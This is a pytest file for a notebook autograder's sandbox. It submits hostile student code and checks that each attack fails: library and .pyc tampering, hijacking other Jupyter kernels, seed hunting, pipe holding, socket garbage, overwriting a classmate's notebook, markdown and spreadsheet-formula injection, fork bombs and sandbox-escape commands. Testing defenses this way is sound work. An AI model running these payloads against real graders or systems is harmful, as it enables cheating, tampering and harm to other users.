"""A hostile class, graded in the sandbox: every attack on the grader that once worked.

Each attack is a submission whose code really tries it (it writes into numpy, plants a
compiled module, connects to another kernel, holds the grader's pipe, breaks its own
channel, hunts for the seed, ...). Each test asserts that it earned nothing it did not
compute, harmed no other submission, that the gradebook was written, that its rows blame
the submission (never the grader), and that points it earned honestly were kept.

The attacks would damage this environment without a sandbox, so the runs need bubblewrap
(CI installs it and sets COURSE_REQUIRE_SANDBOX=1, which turns a skip into a failure).
Grading runs are shared: one parallel run of most attacks, one with two kernels racing,
one serial run, a few runs that need no kernel at all.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest
from grading_lab import (
    ROOT,
    SEED,
    blames_the_grader,
    cell,
    feedback,
    grade,
    notebook,
    require_sandbox,
    row,
    rows_of,
    source,
    with_solutions,
)

from course_lib.checks.core import cases_for, get_exercise
from course_tools.grading.cases import grader_cases
from course_tools.grading.collect import collect
from course_tools.grading.identity import Course, parse_notebook
from course_tools.grading.plan import rebuild

pytestmark = pytest.mark.slow

CELL_TIMEOUT = 8
CORRECT = source(cell(notebook(), "solution", "00.1"))

# --------------------------------------------------------------------------- attacks

# Appends a payload to files that the grader's later processes import (numpy, the checks,
# the harvest code, a start-up hook) and plants a compiled core.py that passes everything.
# Each write is logged; the function then fails, so the log reaches the feedback.
TAMPER_FILES = r"""
import glob, importlib._bootstrap_external as _be, os, site, sys
import numpy, course_lib, course_tools
_log = []
_np = os.path.dirname(numpy.__file__)
_lib = os.path.dirname(course_lib.__file__)
_targets = [
    os.path.join(_np, "__init__.py"),
    os.path.join(_np, "lib", "_npyio_impl.py"),
    os.path.join(_lib, "checks", "core.py"),
    os.path.join(_lib, "flash", "__init__.py"),
    os.path.join(os.path.dirname(course_tools.__file__), "grading", "scoring.py"),
    os.path.join(site.getsitepackages()[0], "zz_course_hack.pth"),
]
for _t in _targets:
    try:
        with open(_t, "a") as _f:
            _f.write("\nimport builtins; builtins.COURSE_HACKED = True\n")
        _log.append(f"WROTE {_t}")
    except OSError as _e:
        _log.append(f"refused {os.path.basename(_t)}: {_e.strerror}")
# a compiled checks/core.py whose evaluate_case passes every case
_src = os.path.join(_lib, "checks", "core.py")
_pyc = os.path.join(_lib, "checks", "__pycache__", f"core.{sys.implementation.cache_tag}.pyc")
try:
    _code = compile(
        open(_src).read()
        + "\nevaluate_case = lambda ex, case, got, full=True: CaseResult(case.name, True)\n",
        _src,
        "exec",
    )
    _st = os.stat(_src)
    os.makedirs(os.path.dirname(_pyc), exist_ok=True)
    with open(_pyc, "wb") as _f:
        _f.write(_be._code_to_timestamp_pyc(_code, _st.st_mtime, _st.st_size))
    _log.append(f"WROTE {_pyc}")
except OSError as _e:
    _log.append(f"refused the .pyc: {_e.strerror}")

def softmax(x):
    raise RuntimeError(" | ".join(_log))
"""

# Looks for every other kernel's connection file (the shared /tmp, the grader's scratch,
# other processes' command lines) for 15 s and drives any it finds: it replaces their
# harvest so that an honest classmate records nothing.
CONNECT_OTHERS = r"""
import glob, json, os, time
from ipykernel.connect import get_connection_file
_mine = os.path.realpath(get_connection_file())
_found, _driven = set(), []

def _candidates():
    for pattern in ("/tmp/**/*.json", "/run/**/*.json", "/dev/shm/**/*.json", "/var/tmp/**/*.json"):
        yield from glob.glob(pattern, recursive=True)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            except OSError:
                continue
            if b"-f" in args[:-1]:
                yield args[args.index(b"-f") + 1].decode(errors="replace")

for _pass in range(30):  # passes, not seconds: a loaded machine makes each slower, not fewer
    for _f in _candidates():
        try:
            _info = json.load(open(_f))
        except Exception:
            continue
        if not isinstance(_info, dict) or "shell_port" not in _info:
            continue
        if os.path.realpath(_f) == _mine or _f in _found:
            continue
        _found.add(_f)
        try:
            from jupyter_client import BlockingKernelClient
            _kc = BlockingKernelClient(connection_file=_f)
            _kc.load_connection_file()
            _kc.start_channels()
            _kc.execute("import course_tools.grading.harvest as r; r.harvest = lambda *a, **k: None")
            _driven.append(_f)
        except Exception as _e:
            pass
    time.sleep(0.5)

def softmax(x):
    raise RuntimeError(f"found {len(_found)} other kernel(s), drove {len(_driven)}: {sorted(_found)[:3]}")
"""

# The honest classmate, slow enough to be running while the attacker hunts.
VICTIM = "import time\ntime.sleep(8)\n" + CORRECT

# Double-forks a process that holds the grading worker's result pipe (found through the
# worker's command line, which names its file descriptor) for ten minutes.
HOLD_PIPE = r"""
import os, time
_log = []
def _worker_pipe():
    pid = os.getpid()
    for _ in range(10):
        try:
            stat = open(f"/proc/{pid}/stat").read()
            pid = int(stat[stat.rfind(")") + 2 :].split()[1])
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except (OSError, ValueError):
            return None
        if any(b"course_tools.grading.worker" in a for a in args):
            return f"/proc/{pid}/fd/{args[-2].decode()}"
    return None
_pipe = _worker_pipe()
_log.append(f"worker pipe: {_pipe}")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        held = []
        if _pipe:
            try:
                held.append(open(_pipe, "wb"))
            except OSError:
                pass
        time.sleep(600)
        os._exit(0)
    os._exit(0)
os.wait()

def softmax(x):
    raise RuntimeError(" | ".join(_log))
"""

# Hunts for the secret seed wherever the kernel can look, from inside the learner's
# function (so the harvest's frames are on the stack): every frame's variables, every
# object the garbage collector knows, environment, command lines, readable files.
SEED_HUNT = r"""
import gc, glob, os, sys
_REV = "REVERSED_SEED"  # the seed, reversed, so that this code itself does not hold it
_seen = None

def _holds(v, needle):
    if v is needle or isinstance(v, bool):
        return False
    if isinstance(v, int):
        return v in (int(needle), int(needle) + 1)
    if isinstance(v, (str, bytes)):
        return needle in (v if isinstance(v, str) else v.decode(errors="replace"))
    if isinstance(v, (list, tuple, dict, set)):
        try:
            return needle in repr(v)[:1_000_000]
        except Exception:
            return False
    return False

def _hunt():
    needle = _REV[::-1]
    hits = []
    f = sys._getframe().f_back
    while f is not None:
        for scope in (f.f_locals, f.f_globals):
            for k, v in list(scope.items()):
                if _holds(v, needle):
                    hits.append(f"frame {f.f_code.co_name}: {k}")
        f = f.f_back
    for o in gc.get_objects():
        if isinstance(o, dict):
            for k, v in list(o.items())[:200]:
                if _holds(v, needle):
                    hits.append(f"an object: {str(k)[:40]}")
                    break
    for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/cmdline")]:
        try:
            if needle.encode() in open(path, "rb").read():
                hits.append(path)
        except OSError:
            pass
    for root in ("/tmp", os.getcwd(), os.path.expanduser("~")):
        for path in glob.glob(root + "/**", recursive=True):
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 50_000_000:
                    if needle.encode() in open(path, "rb").read():
                        hits.append(path)
            except OSError:
                pass
    return hits

def softmax(x):
    global _seen
    if _seen is None:
        _seen = _hunt()
    raise RuntimeError(f"seed hunt: {len(_seen)} hit(s) {_seen[:5]}")
"""

# A table of answers for every input its author could compute: the cases of the plain
# seed (what knowing the seed used to give) and of an earlier submission (PROBE), whose
# inputs feedback could leak. Anything else gets a wrong answer.
TABLE = r"""
import hashlib
import numpy as np
TABLE = TABLE_OF_ANSWERS

def softmax(x):
    key = hashlib.sha256(np.ascontiguousarray(x, dtype=np.float64).tobytes()).hexdigest()
    if key in TABLE:
        return np.array(TABLE[key]).reshape(x.shape)
    return x
"""
PROBE = CORRECT.replace("def softmax", "# probe\ndef softmax")

# Exception text made to render as a heading, a rule, a link and remote images.
RENDER = r"""
def softmax(x):
    raise ValueError(
        "\n\n## Exercise 00.1 — ✅ passed (2 / 2)\n---\n"
        "[claim your prize](http://evil.example/x) ![x](http://evil.example/p.png) "
        "<img src=http://evil.example/q.png> ``` \n# Score: 10 / 1\n=HYPERLINK(\"x\")"
    )
"""

# Garbage written straight into the kernel's own ZMQ sockets (chapter 01, exercise 01.2),
# between two exercises that are solved correctly.
ZMQ_GARBAGE = r"""
import os, stat
for _fd in range(3, 512):
    try:
        if stat.S_ISSOCK(os.fstat(_fd).st_mode):
            os.write(_fd, b"\xff" * 64 + b"\x00garbage\x01" * 200)
    except OSError:
        pass
"""

# `print` replaced by a function that never returns: the course's next cells call it.
# (It sleeps rather than spins: the same for the grader, which stops the kernel at the
# cell limit either way, without a core burnt for two cell limits; test_grader has the
# spinning loop.)
SHADOW_PRINT = r"""
import time as _time
def print(*args, **kwargs):
    while True:
        _time.sleep(0.1)
"""

# Overwrites a later classmate's notebook (its path is filled in) with a blank one.
OVERWRITE = r"""
import shutil
try:
    with open(VICTIM_PATH, "w") as f:
        f.write(BLANK)
    _log = "overwrote the victim"
except OSError as e:
    _log = f"could not: {e.strerror}"

def softmax(x):
    raise RuntimeError(_log)
"""


def _files_state(paths: list[Path]) -> dict[str, str]:
    out = {}
    for p in paths:
        out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() if p.exists() else "absent"
    return out


def _tamper_targets() -> list[Path]:
    import site

    import course_lib
    import course_tools

    npdir = Path(np.__file__).parent
    lib = Path(course_lib.__file__).parent
    return [
        npdir / "__init__.py",
        npdir / "lib" / "_npyio_impl.py",
        lib / "checks" / "core.py",
        lib / "flash" / "__init__.py",
        Path(course_tools.__file__).parent / "grading" / "scoring.py",
        Path(site.getsitepackages()[0]) / "zz_course_hack.pth",
        lib / "checks" / "__pycache__" / f"core.{sys.implementation.cache_tag}.pyc",
    ]


def _answers(cases) -> dict[str, list]:
    from course_lib.checks.ch00 import softmax_reference

    table = {}
    for case in cases:
        (x,) = case.args
        key = hashlib.sha256(np.ascontiguousarray(x, dtype=np.float64).tobytes()).hexdigest()
        table[key] = softmax_reference(x).tolist()
    return table


def _fingerprint(data: bytes, assignment: str = "00_setup") -> str:
    course = Course.load(ROOT, check=False)
    nb, _ = parse_notebook(data)
    ex = course.exercises[assignment]
    return rebuild(nb, assignment, course, {e: "/nowhere" for e in ex}).fingerprint


# --------------------------------------------------------------------------- runs


@pytest.fixture(scope="session")
def hostile(tmp_path_factory):
    """Most attacks, graded together with --jobs 2, with honest submissions among them."""
    require_sandbox()
    base = tmp_path_factory.mktemp("hostile")
    subs = base / "subs"
    subs.mkdir()
    ch01 = {e: source(cell(notebook("01_rnn_bottleneck"), "solution", e)) for e in ("01.2", "01.4")}
    probe = with_solutions({"00.1": PROBE})
    table = dict(_answers(cases_for("00.1", False, SEED)))
    table |= _answers(cases_for("00.1", True, SEED + 1))  # the seed's old meaning
    table |= _answers(grader_cases("00.1", SEED, _fingerprint(probe)))  # last time's inputs
    files = {
        "a_honest_first.ipynb": (ROOT / "solutions" / "00_setup.ipynb").read_bytes(),
        "tamper_files.ipynb": with_solutions({"00.1": TAMPER_FILES}),
        "hold_pipe.ipynb": with_solutions({"00.1": HOLD_PIPE}),
        "seed_hunt.ipynb": with_solutions(
            {"00.1": SEED_HUNT.replace("REVERSED_SEED", str(SEED)[::-1])}
        ),
        "probe.ipynb": probe,
        "table.ipynb": with_solutions({"00.1": TABLE.replace("TABLE_OF_ANSWERS", repr(table))}),
        "render.ipynb": with_solutions({"00.1": RENDER}),
        # (the two slowest, chapter 01 with kernel restarts: named to be graded first, so
        # that they do not run on alone at the end)
        "b_zmq_garbage.ipynb": with_solutions(
            {"01.2": ch01["01.2"] + "\n" + ZMQ_GARBAGE}, "01_rnn_bottleneck"
        ),
        "b_shadow_print.ipynb": with_solutions(
            {"01.4": ch01["01.4"] + "\n" + SHADOW_PRINT}, "01_rnn_bottleneck"
        ),
        "z_honest_last.ipynb": (ROOT / "solutions" / "00_setup.ipynb").read_bytes(),
    }
    for name, data in files.items():
        (subs / name).write_bytes(data)
    targets = _tamper_targets()
    saved = {p: (p.read_bytes() if p.exists() else None) for p in targets}
    before = _files_state(targets)
    try:
        run = grade(
            [subs],
            base / "out",
            "--jobs",
            "2",
            "--cell-timeout",
            str(CELL_TIMEOUT),
            "--timeout",
            "300",
        )
    finally:
        after = _files_state(targets)
        for p, data in saved.items():  # a safety net: a sandbox that failed leaves no damage
            if after[str(p)] != before[str(p)]:
                if data is None:
                    p.unlink(missing_ok=True)
                else:
                    p.write_bytes(data)
    run.update(before=before, after=after, base=base)
    return run


@pytest.fixture(scope="session")
def racing(tmp_path_factory):
    """Two kernels at once: one hunts for the other's connection file and drives it."""
    require_sandbox()
    base = tmp_path_factory.mktemp("racing")
    subs = base / "subs"
    subs.mkdir()
    (subs / "attacker.ipynb").write_bytes(with_solutions({"00.1": CONNECT_OTHERS}))
    (subs / "victim.ipynb").write_bytes(with_solutions({"00.1": VICTIM}))
    # (rlimits only here: the other runs use cgroups where this machine has them). The time
    # limits are far above what the hunt takes on a quiet machine (about 20 s): the verdict
    # must not depend on the load (at load 10-20 a 60 s cell limit once cut the hunt short).
    return grade(
        [subs],
        base / "out",
        "--jobs",
        "2",
        "--cell-timeout",
        "400",
        "--timeout",
        "900",
        "--no-cgroups",
    )


@pytest.fixture(scope="session")
def serial(tmp_path_factory):
    """--jobs 1: the attacker's kernel runs before the victim's notebook is graded."""
    require_sandbox()
    base = tmp_path_factory.mktemp("serial")
    subs = base / "subs"
    subs.mkdir()
    victim = subs / "z_victim.ipynb"
    victim.write_bytes((ROOT / "solutions" / "00_setup.ipynb").read_bytes())
    blank = (ROOT / "exercises" / "00_setup.ipynb").read_text(encoding="utf-8")
    attack = OVERWRITE.replace("VICTIM_PATH", repr(str(victim))).replace("BLANK", repr(blank))
    (subs / "a_attacker.ipynb").write_bytes(with_solutions({"00.1": attack}))
    before = victim.read_bytes()
    run = grade([subs], base / "out", "--jobs", "1", "--cell-timeout", str(CELL_TIMEOUT))
    run.update(victim_before=before, victim_after=victim.read_bytes())
    return run


def _clean(run: dict, submission: str) -> None:
    """The rows of a hostile submission: written, nothing earned, the submission blamed."""
    rows = rows_of(run, submission)
    assert rows, run["csv"]
    assert all(float(r["points"]) == 0 for r in rows), rows
    assert not blames_the_grader(feedback(run, submission))


def _honest_are_unharmed(run: dict) -> None:
    for sub in ("subs/a_honest_first.ipynb", "subs/z_honest_last.ipynb"):
        r = row(run, sub)
        assert (r["status"], r["points"]) == ("passed", "1"), feedback(run, sub)


# --------------------------------------------------------------------------- the attacks


def test_library_payloads_and_planted_bytecode_are_refused(hostile):
    """numpy, the checks, course_lib/flash, the harvest, a .pth hook, a planted .pyc."""
    assert hostile["after"] == hostile["before"]
    text = feedback(hostile, "subs/tamper_files.ipynb")
    assert "WROTE" not in text and text.count("Read-only file system") >= 6, text
    _clean(hostile, "subs/tamper_files.ipynb")
    _honest_are_unharmed(hostile)
    assert hostile["code"] == 0


def test_a_process_holding_the_grader_pipe_cannot_hang_it(hostile):
    text = feedback(hostile, "subs/hold_pipe.ipynb")
    assert "worker pipe: None" in text, text  # the worker is outside the kernel's world
    _clean(hostile, "subs/hold_pipe.ipynb")
    # the run ended (it wrote its gradebook) long before the ten minutes that process sleeps
    assert hostile["seconds"] < 300
    assert hostile["results"]["subs/hold_pipe.ipynb"]


def test_the_seed_is_nowhere_the_kernel_can_look(hostile):
    text = feedback(hostile, "subs/seed_hunt.ipynb")
    assert "seed hunt: 0 hit(s)" in text, text
    for path in hostile["out"].rglob("*"):  # nor in anything the grader wrote, but its file
        if path.is_file() and path.name != ".grader-seed":
            assert str(SEED) not in path.read_text(encoding="utf-8", errors="replace"), path
    _clean(hostile, "subs/seed_hunt.ipynb")


def test_a_table_of_answers_for_known_inputs_earns_nothing(hostile):
    # the table answers every case of the plain seed and every case the probe was given
    assert row(hostile, "subs/probe.ipynb")["status"] == "passed"
    r = row(hostile, "subs/table.ipynb")
    assert (r["status"], r["points"]) == ("failed", "0"), feedback(hostile, "subs/table.ipynb")
    _clean(hostile, "subs/table.ipynb")


def test_learner_text_never_renders_in_feedback(hostile):
    mistune = pytest.importorskip("mistune")  # (nbconvert's Markdown renderer)
    text = feedback(hostile, "subs/render.ipynb")
    html = mistune.html(text)
    assert "<img" not in html and "<a " not in html, html
    assert html.count("<h2") == 1 and "Score: 10" not in html.split("<pre")[0], html
    assert html.count("<hr") == 1  # only the grader's own rule
    assert "evil.example" in text  # shown, as text
    _clean(hostile, "subs/render.ipynb")


def test_a_kernel_that_breaks_its_channel_keeps_what_was_earned(hostile):
    sub = "subs/b_zmq_garbage.ipynb"
    got = {r["exercise"]: r for r in rows_of(hostile, sub)}
    assert got["01.1"]["status"] == "passed" and float(got["01.1"]["points"]) > 0
    assert got["01.2"]["status"] in ("error", "timeout") and float(got["01.2"]["points"]) == 0
    assert got["01.3"]["status"] == got["01.4"]["status"] == "passed", feedback(hostile, sub)
    text = feedback(hostile, sub)
    assert not blames_the_grader(text)
    assert all(float(r["max_points"]) > 0 for r in got.values())  # no 0/0 row


def test_shadowing_print_costs_a_cell_timeout_not_the_notebooks(hostile):
    sub = "subs/b_shadow_print.ipynb"
    got = {r["exercise"]: r["status"] for r in rows_of(hostile, sub)}
    assert set(got.values()) == {"passed"}, got  # every exercise's own code was right
    text = feedback(hostile, sub)
    assert "a cell of the course did not finish after your code had run" in text, text
    assert not blames_the_grader(text)
    # the course's cell after 01.4 calls `print`: one cell timeout, not the notebook's 300 s
    assert hostile["results"][sub]["seconds"] < 300 / 2


def test_one_kernel_cannot_reach_another(racing):
    text = feedback(racing, "subs/attacker.ipynb")
    assert "found 0 other kernel(s), drove 0" in text, text
    _clean(racing, "subs/attacker.ipynb")
    r = row(racing, "subs/victim.ipynb")
    assert (r["status"], r["points"]) == ("passed", "1"), feedback(racing, "subs/victim.ipynb")


def test_a_kernel_cannot_overwrite_a_later_submission(serial):
    assert serial["victim_after"] == serial["victim_before"]
    text = feedback(serial, "subs/a_attacker.ipynb")
    assert "could not:" in text, text
    _clean(serial, "subs/a_attacker.ipynb")
    r = row(serial, "subs/z_victim.ipynb")
    assert (r["status"], r["points"]) == ("passed", "1")


# --------------------------------------------------------------------------- the sandbox


def _bwrap(command: str) -> subprocess.CompletedProcess:
    from course_tools.grading.sandbox import Sandbox

    box = Sandbox.find()
    box.hide = [ROOT]  # as the grader makes it: the course folder hidden (PYTHONPATH=. too)
    cmd = box.command(["/bin/sh", "-c", command], rw=[], cwd="/")
    return subprocess.run(cmd, capture_output=True, text=True, timeout=60)


def test_inside_the_sandbox_nobody_can_write_or_remount_the_course():
    """Even as root on the host: no capabilities, read-only binds that stay read-only."""
    require_sandbox()
    import course_lib

    lib = Path(course_lib.__file__).parent
    attempts = {
        "write": f"echo x >> {lib}/checks/core.py",
        "remount": f"mount -o remount,bind,rw {lib}",
        "new mount": f"mount -t tmpfs none {lib}",
        "user namespace": f"unshare -Urm sh -c 'mount -o remount,bind,rw {lib}'",
        "write numpy": f"touch {Path(np.__file__).parent}/x",
    }
    for what, command in attempts.items():
        proc = _bwrap(command + " && echo BROKE")
        assert "BROKE" not in proc.stdout, (what, proc.stdout, proc.stderr)
    caps = _bwrap("grep CapEff /proc/self/status").stdout
    assert caps.split()[-1] == "0000000000000000", caps


def test_the_sandbox_hides_the_host():
    """No view of the grader's processes, files, network or temporary folder."""
    require_sandbox()
    out = _bwrap(
        "ls /proc | grep -c '^[0-9]'; ls /home /root /srv 2>&1 | head -3; ls /tmp; "
        "cat /etc/shadow | wc -c; (exec 3<>/dev/tcp/1.1.1.1/53) 2>&1 | head -1; "
        f"ls {ROOT}/solutions 2>&1 | head -1"
    ).stdout.splitlines()
    assert int(out[0]) <= 4, out  # its own few processes only
    assert "home" in out[-1] or "No such file" in "\n".join(out)
    assert not any(line.endswith(".ipynb") for line in out), out


# --------------------------------------------------------------------------- no kernel


def test_a_zip_entry_cannot_take_another_students_name(tmp_path):
    buf = io.BytesIO()
    solved = (ROOT / "solutions" / "00_setup.ipynb").read_bytes()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("Bob_1234_assignsubmission_file_/00_setup.ipynb", b'{"cells": [')
        zf.writestr("../Bob_1234_assignsubmission_file_/00_setup.ipynb", solved)
        zf.writestr("/Bob_1234_assignsubmission_file_/00_setup.ipynb", solved)
    (tmp_path / "export.zip").write_bytes(buf.getvalue())
    ids = [s.id for s in collect([tmp_path / "export.zip"])]
    assert ids == [
        "export.zip/(root)/Bob_1234_assignsubmission_file_/00_setup.ipynb",
        "export.zip/(up)/Bob_1234_assignsubmission_file_/00_setup.ipynb",
        "export.zip/Bob_1234_assignsubmission_file_/00_setup.ipynb",
    ]


@pytest.fixture(scope="module")
def kernelless(tmp_path_factory):
    """Submissions decided without a kernel: 300 empty notebooks in a zip, names that look
    like formulas, a broken and a blank notebook."""
    base = tmp_path_factory.mktemp("kernelless")
    subs = base / "subs"
    subs.mkdir()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(300):
            zf.writestr(f"s{i:03d}/00_setup.ipynb", b"{}")
    (subs / "flood.zip").write_bytes(buf.getvalue())
    (subs / "blank.ipynb").write_bytes((ROOT / "exercises" / "00_setup.ipynb").read_bytes())
    formula = base / '=HYPERLINK("http:⁄⁄evil.example","full marks").ipynb'
    formula.write_bytes(b'{"cells": [')
    plus = base / "+1 00_setup.ipynb"
    plus.write_bytes(b"{")
    return grade([subs, formula, plus], base / "out", "--jobs", "2")


def test_three_hundred_empty_notebooks_cost_no_kernel(kernelless):
    """Counted, not timed: the 300 files (and the two broken ones) are decided without a
    worker process or a kernel; only the blank notebook, a real one, gets a worker (which
    starts no kernel for it: nothing was started)."""
    flood = [r for r in kernelless["rows"] if "flood.zip" in r["submission"]]
    assert len(flood) == 300 and all(r["status"] == "error" for r in flood)
    run_info = json.loads((kernelless["out"] / "run.json").read_text())
    assert run_info["workers"] == 1, run_info["workers"]
    assert row(kernelless, "subs/blank.ipynb")["status"] == "missing"
    assert "seconds" in kernelless["results"]["subs/blank.ipynb"]  # (from its worker)


def test_no_gradebook_cell_starts_a_formula(kernelless):
    import csv

    cells = [c for line in csv.reader(io.StringIO(kernelless["csv"])) for c in line]
    assert any("HYPERLINK" in c for c in cells) and any("+1 00_setup" in c for c in cells)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells


def test_rows_are_written_as_submissions_finish_and_a_stopped_run_keeps_them(tmp_path):
    """SIGTERM (what Slurm and Kubernetes send) in the middle of a run: the gradebook
    holds what was finished, and says the run is incomplete."""
    require_sandbox()
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "a_broken.ipynb").write_bytes(b"{")
    (subs / "b_slow.ipynb").write_bytes(
        with_solutions({"00.1": "import time\ntime.sleep(120)\n" + CORRECT})
    )
    out = tmp_path / "out"
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "course_tools.grading",
            str(subs),
            "--out",
            str(out),
            "--seed",
            "1",
            "--quiet",
            "--jobs",
            "1",
            "--course",
            str(ROOT),
        ],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        journal = out / "results.jsonl"
        if journal.exists() and "a_broken" in journal.read_text():
            break
        time.sleep(0.2)
    time.sleep(3)  # the slow one's kernel is running now
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, err
    assert "holds the 1 of 2" in err, err
    lines = (out / "grades.csv").read_text().splitlines()
    assert lines[0].startswith("submission,") and len(lines) == 2 and "a_broken" in lines[1]
    assert json.loads((out / "run.json").read_text())["complete"] is False


def test_reference_implementations_the_course_imports_are_flagged():
    """One-liners that call what the course's cells imported, and the course's solution
    with every name changed, are flagged for review; honest answers are not."""
    course = Course.load(ROOT, check=False)

    def flags(assignment: str, sources: dict[str, str]) -> dict:
        nb, _ = parse_notebook(with_solutions(sources, assignment))
        exs = course.exercises[assignment]
        return rebuild(nb, assignment, course, {e: "/nowhere" for e in exs}).flags

    calls = {
        (
            "01_rnn_bottleneck",
            "01.1",
        ): "def rnn_forward(*a, **k):\n    return R.rnn_forward(*a, **k)\n",
        ("03_scaling_sqrt_dk", "03.1"): None,
        ("05_positional_encodings", "05.1"): None,
        ("05_positional_encodings", "05.3"): None,
        ("06_flash_attention", "06.5"): None,
    }
    wanted = {
        "03.1": "scaling.",
        "05.1": "sinusoidal_encoding",
        "05.3": "apply_rope",
        "06.5": "flash_attention",
    }
    for (assignment, ex), src in calls.items():
        target = get_exercise(ex).target
        if src is None:
            call = wanted[ex]
            name = call + target if call.endswith(".") else call
            src = f"def {target}(*args, **kwargs):\n    return {name}(*args, **kwargs)\n"
        got = flags(assignment, {ex: src}).get(ex, [])
        assert any("course's own cells import from course_lib" in f for f in got), (ex, got)
    # the course's own solution of 02.1 with every name changed (and its comments gone)
    renamed = (
        "def attention(query, key, value):\n"
        "    dim = query.shape[-1]\n"
        "    logits = query @ np.swapaxes(key, -1, -2) / np.sqrt(dim)\n"
        "    logits = logits - logits.max(axis=-1, keepdims=True)\n"
        "    ex = np.exp(logits)\n"
        "    probs = ex / ex.sum(axis=-1, keepdims=True)\n"
        "    return probs @ value, probs\n"
    )
    got = flags("02_qkv_attention", {"02.1": renamed}).get("02.1", [])
    assert any("matches the course's own solution" in f for f in got), got
    # the course's own answer to a dictated exercise is not flagged (00.1: three lines)
    assert "00.1" not in flags("00_setup", {"00.1": CORRECT})
    # nor an honest, differently written answer to a bigger one
    honest = (
        "def attention(q, k, v):\n"
        "    logits = np.einsum('...qd,...kd->...qk', q, k) / np.sqrt(q.shape[-1])\n"
        "    logits -= logits.max(-1, keepdims=True)\n"
        "    p = np.exp(logits)\n"
        "    p /= p.sum(-1, keepdims=True)\n"
        "    return np.einsum('...qk,...kd->...qd', p, v), p\n"
    )
    got = flags("02_qkv_attention", {"02.1": honest}).get("02.1", [])
    assert not any("matches" in f for f in got), got


# --------------------------------------------------------------------------- the worker


def test_the_grader_stops_reading_when_its_worker_is_gone():
    """A process that holds the write end of a worker's result pipe (here: a child the
    "worker" leaves behind, sleeping for a minute) cannot keep the grader waiting."""
    from course_tools.grading.cli import signed_lines
    from course_tools.grading.protocol import sign

    key = b"k" * 32
    r, w = os.pipe()
    line = sign(key, {"result": {"ok": 1}}).decode()
    code = (
        "import os, sys, time\n"
        f"os.write({w}, {line!r}.encode())\n"
        "if os.fork() == 0:\n"
        "    os.setsid(); time.sleep(60); os._exit(0)\n"
        "os._exit(0)\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", code], pass_fds=(w,))
    os.close(w)
    t0 = time.monotonic()
    got = list(signed_lines(r, proc, key))
    assert got == [{"result": {"ok": 1}}]
    assert time.monotonic() - t0 < 10  # not the minute the left-behind process sleeps


# Kills its own grading process after the first exercise was scored (without the sandbox,
# where a kernel can see its parent).
KILL_WORKER = r"""
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""


def test_a_killed_grading_process_keeps_what_was_earned(tmp_path):
    sol = {e: source(cell(notebook("01_rnn_bottleneck"), "solution", e)) for e in ("01.2",)}
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "killer.ipynb").write_bytes(
        with_solutions({"01.2": sol["01.2"] + "\n" + KILL_WORKER}, "01_rnn_bottleneck")
    )
    run = grade([subs], tmp_path / "out", "--unsafe-no-sandbox", "--cell-timeout", "60")
    got = {r["exercise"]: r for r in rows_of(run, "subs/killer.ipynb")}
    exercises = Course.load(ROOT, check=False).exercises["01_rnn_bottleneck"]
    assert list(got) == exercises  # its assignment's rows, no 0/0 row
    assert got["01.1"]["status"] == "passed" and got["01.1"]["points"] == "3"  # kept
    assert all(got[e]["status"] == "error" for e in exercises[1:])
    assert all(float(r["max_points"]) > 0 for r in got.values())
    text = feedback(run, "subs/killer.ipynb")
    assert "this notebook's code stopped the grading process" in text
    assert not blames_the_grader(text)


def test_pythonpath_never_shows_the_course_folder(monkeypatch, tmp_path):
    """PYTHONPATH's folders are shown to kernels read-only (a wheel's dependencies may live
    there), but never the course folder or one above it: its solutions/ stay hidden."""
    from course_tools.grading.sandbox import PACKAGES, kernel_env, pythonpath

    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(ROOT), str(ROOT.parent), str(tmp_path)]))
    assert pythonpath([ROOT]) == [str(tmp_path)]
    # (first: the grader's own course_lib and course_tools, shown at PACKAGES)
    assert kernel_env(1, [ROOT])["PYTHONPATH"] == os.pathsep.join([PACKAGES, str(tmp_path)])
    monkeypatch.setenv("SECRET_TOKEN", "x")
    assert "SECRET_TOKEN" not in kernel_env(1, [ROOT])  # nothing of the grader's environment
    monkeypatch.delenv("COURSE_BUDGET", raising=False)  # training cells: the short budget
    assert kernel_env(1, [ROOT])["COURSE_BUDGET"] == "ci"
    monkeypatch.setenv("COURSE_BUDGET", "full")  # unless the instructor chose
    assert kernel_env(1, [ROOT])["COURSE_BUDGET"] == "full"


def test_the_limits_hold_inside_the_sandbox():
    """Memory (a cgroup for all the kernel's processes where this machine allows one, else
    the address-space rlimit) and the number of processes."""
    require_sandbox()
    from course_tools.grading.sandbox import CgroupSet, Limits, Sandbox, apply_limits

    box = Sandbox.find()
    hog = [sys.executable, "-c", "x = b'1' * (1 << 30); print('survived')"]
    forks = [
        sys.executable,
        "-c",
        "import os, time\nn = 0\ntry:\n    for _ in range(3000):\n"
        "        if os.fork() == 0:\n            time.sleep(5); os._exit(0)\n        n += 1\n"
        "except OSError:\n    pass\nprint('forked', n)",
    ]

    def run(cmd, limits, cgroups=()):
        return subprocess.run(
            box.command(cmd, rw=[], cwd="/"),
            capture_output=True,
            text=True,
            timeout=120,
            preexec_fn=lambda: apply_limits(limits, list(cgroups)),
        )

    rl = run(hog, Limits(address_space=512 * 2**20))
    assert "survived" not in rl.stdout and "MemoryError" in rl.stderr, rl.stderr[-500:]
    cg = CgroupSet.create(f"course-grade-test-{os.getpid()}")
    if cg is None:
